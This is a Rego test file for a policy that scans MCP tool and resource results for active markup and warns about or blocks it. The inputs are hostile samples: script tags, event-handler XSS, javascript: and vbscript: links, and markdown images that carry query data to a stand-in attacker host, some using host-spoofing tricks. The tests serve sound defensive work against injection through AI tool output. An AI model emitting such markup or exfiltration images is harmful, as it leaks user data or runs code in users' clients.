package rules.injection.active_markup_test

import rego.v2

import data.rules.injection.active_markup

_result(text) := {
	"from": "server",
	"kind": "result",
	"method": "tools/call",
	"result": {"content": [{"type": "text", "text": text}]},
}

_settings := {"action": "warn", "images": "query", "hosts": ["img.example.com", "*.cdn.example.com"], "apps": true}

_with(changes) := object.union(_settings, changes)

_picture := "the answer has a picture from elsewhere whose address can carry data: ask for it without markup"

_has(what) := $"the answer has {what}: ask for it without markup"

_finds := {
	"a script or a frame": [
		"<script>", "<SCRIPT src=x>", "text <iframe src='x'>", "<frame>", "<object data=x>", "<embed>",
	],
	"an event handler": [
		"<img src=x onerror=alert(1)>", "<b onClick = 'x'>", "<svg/onload=x>", "<a href=\"x\"onfocus=\"y\">", "<a href='x'onfocus='y'>",
	],
	"a link that runs code": [
		"[a](javascript:x)", "[a]( <JavaScript:x>)", "[a](vbscript:x)", "[a](data:text/html,x)", "<a href=javascript:x>",
		"<a href = \"javascript:x\">", "<form action='javascript:x'>", "<x src=javascript:y>",
	],
}

test_warn_of_each_kind if {
	every what, texts in _finds {
		every text in texts {
			active_markup.warn == {_has(what)} with input as _result(text) with data.settings["injection/active_markup"] as _settings
			active_markup.deny == set() with input as _result(text) with data.settings["injection/active_markup"] as _settings
		}
	}
}

test_warn_of_pictures if {
	every text in [
		"![x](https://evil.example/p.png?d=1)", "![](http://evil.example/?d)", "text ![a b]( <https://evil.example/p?d>) text",
		"<img src=https://evil.example/p?d=1>", "<IMG alt='x' SRC = \"HTTPS://evil.example/p?d\">", "<img src='https://evil.example/?'>",
		"![x](https://img.example.com.evil.example/p?d)", "![x](https://img.example.com@evil.example/p?d)",
		"![x](https://img.example.com/p?a) ![x](https://evil.example/p?d)", "![x](https://evil.example:bad/p?d)", "![x](https://cdn.example.com/p?d)", "![x](https://?d)",
		"![x](https://evil.example\\@img.example.com/?d)", "![x](https://img.example.com\\@evil.example/?d)",
	] {
		active_markup.warn == {_picture} with input as _result(text) with data.settings["injection/active_markup"] as _settings
	}
}

test_more_pictures_than_are_looked_at if {
	every many, found in {"199": set(), "200": {_picture}, "201": {_picture}} {
		text := concat(" ", ["![x](https://img.example.com/p)" | some _ in numbers.range(1, to_number(many))])
		active_markup.warn == found with input as _result(text) with data.settings["injection/active_markup"] as _settings
	}
}

test_a_picture_from_elsewhere_among_others if {
	pictures := array.concat(["![x](https://img.example.com/p?d)" | some _ in numbers.range(1, 198)], ["![x](https://evil.example/?d)"])
	active_markup.warn == {_picture} with input as _result(concat(" ", pictures))
		with data.settings["injection/active_markup"] as _settings
}

test_pictures_without_a_query if {
	text := "![x](https://evil.example/d/1.png) and <img src=https://evil.example/p>"
	active_markup.warn == set() with input as _result(text) with data.settings["injection/active_markup"] as _settings
	active_markup.warn == {_picture} with input as _result(text)
		with data.settings["injection/active_markup"] as _with({"images": "any"})
	active_markup.warn == set() with input as _result("![x](https://img.example.com/p)")
		with data.settings["injection/active_markup"] as _with({"images": "any"})
	_picture in active_markup.deny with input as _result(text)
		with data.settings["injection/active_markup"] as object.remove(_with({"action": "deny"}), ["images"])
}

test_allow_other_texts if {
	every text in [
		"", "plain", "![x](https://img.example.com/p.png?d=1)", "<img src=https://img.example.com/p?d>", "![x](https://a.cdn.example.com/p?d)", "![x](/local.png?d)",
		"[link](https://evil.example/?d)", "https://evil.example/?d", "![x](data:image/png;base64,AA)", "<b>bold</b>",
		"<scripted>", "a < b and one = 2", "[a](https://example.com/javascript:)", "<a href=https://example.com>", "onerror=1",
	] {
		every action in ["warn", "deny"] {
			_silent with input as _result(text) with data.settings["injection/active_markup"] as _with({"action": action})
		}
	}
}

test_deny_if_configured if {
	active_markup.deny == {_has("a script or a frame"), _picture} with input as _result("<script>![x](https://evil.example/?d)")
		with data.settings["injection/active_markup"] as _with({"action": "deny"})
	active_markup.warn == set() with input as _result("<script>")
		with data.settings["injection/active_markup"] as _with({"action": "deny"})
	every action in ["hold", null, 7] {
		_has("a script or a frame") in active_markup.deny with input as _result("<script>")
			with data.settings["injection/active_markup"] as _with({"action": action})
	}
}

test_every_answer_that_is_shown if {
	every method in ["tools/call", "resources/read", "prompts/get", "tasks/result"] {
		active_markup.warn == {_has("a script or a frame")} with input as object.union(_result("<script>"), {"method": method})
			with data.settings["injection/active_markup"] as _settings
		error := {"from": "server", "kind": "error", "method": method, "error": {"message": "<script>"}}
		active_markup.warn == {_has("a script or a frame")} with input as error
			with data.settings["injection/active_markup"] as _settings
	}
}

_read(uri) := object.union(_result("<script>"), {"method": "resources/read", "params": {"uri": uri}})

test_apps_are_pages if {
	_silent with input as _read("ui://widget") with data.settings["injection/active_markup"] as _settings
	every frame in [
		_read("https://ui://widget"), _read("UI://widget"), _read(7), object.union(_read("ui://widget"), {"method": "tools/call"}),
		object.remove(_read(""), ["params"]),
	] {
		count(active_markup.warn) == 1 with input as frame with data.settings["injection/active_markup"] as _settings
	}
	every apps in [false, null, "true"] {
		count(active_markup.warn) == 1 with input as _read("ui://widget")
			with data.settings["injection/active_markup"] as _with({"apps": apps})
	}
}

test_other_frames if {
	every change in [{"from": "client"}, {"kind": "request"}, {"method": "tools/list"}] {
		every text in ["<script>", "![x](https://evil.example/?d)"] {
			_silent with input as object.union(_result(text), change) with data.settings["injection/active_markup"] as _settings
			_silent with input as object.union(_result(text), change)
				with data.settings["injection/active_markup"] as _with({"action": "deny"})
		}
		_silent with input as object.union(_result("<script>"), change) with data.settings as {}
	}
	_silent with input as {}
	_silent with input as object.remove(_result(""), ["result"])
}

test_deny_when_not_configured if {
	unconfigured := {"injection/active_markup is not configured: see its settings in data.yaml"}
	every key, _ in _settings {
		active_markup.deny == unconfigured with input as _result("")
			with data.settings["injection/active_markup"] as object.remove(_settings, [key])
		every value in ["other", null, 7] {
			active_markup.deny == unconfigured with input as _result("")
				with data.settings["injection/active_markup"] as _with({key: value})
		}
	}
	active_markup.deny == unconfigured with input as _result("") with data.settings as {}
	every images in ["query", "any"] {
		active_markup.deny == set() with input as _result("")
			with data.settings["injection/active_markup"] as _with({"images": images})
	}
}

test_defaults_are_configured if {
	_silent with input as _result("plain")
	count(active_markup.warn) == 1 with input as _result("<script>")
}

_silent if {
	active_markup.warn == set()
	active_markup.deny == set()
}
